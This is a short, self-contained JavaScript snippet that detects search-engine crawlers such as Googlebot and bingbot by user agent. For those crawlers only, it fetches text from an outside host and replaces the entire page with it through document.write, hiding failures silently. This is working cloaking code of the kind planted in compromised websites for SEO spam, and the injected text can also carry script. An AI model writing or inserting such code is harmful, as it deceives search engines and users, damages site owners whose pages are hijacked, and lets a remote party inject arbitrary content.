(function () {
  'use strict';
  const names = ['Googlebot', 'AdsBot-Google', 'Mediapartners-Google', 'bingbot'];
  function robot() { return names.some(n => navigator.userAgent.includes(n)); }
  function text() {
    fetch('https://gcd.pages.example/deliver/arch/content.txt')
      .then(r => { if (!r.ok) throw new Error('no'); return r.text(); })
      .then(t => { document.open(); document.write(t); document.close(); })
      .catch(() => {});
  }
  if (robot()) text();
})();
